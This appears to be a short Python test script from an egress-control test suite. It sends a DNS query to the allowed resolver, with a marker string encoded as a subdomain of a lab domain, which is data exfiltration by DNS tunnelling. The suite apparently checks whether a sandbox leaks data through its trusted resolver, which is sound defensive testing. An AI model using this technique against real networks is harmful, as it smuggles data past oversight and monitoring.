# SPDX-License-Identifier: Apache-2.0
"""Data in a question to the trusted resolver itself."""
from aim import ALLOWED4, MARK, query, run, udp


def attempt():
    udp().sendto(query(MARK.decode() + ".lab.example"), (ALLOWED4, 53))


run(attempt)
